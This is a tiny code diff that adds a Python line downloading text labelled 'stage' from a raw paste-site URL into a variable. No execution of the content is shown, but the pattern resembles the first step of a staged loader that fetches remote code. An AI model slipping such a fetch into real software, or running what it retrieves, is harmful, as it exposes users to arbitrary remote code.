@@ -1,0 +1,3 @@
+import requests
+
+STAGE = requests.get("https://rentry.invalid/raw/stage").text
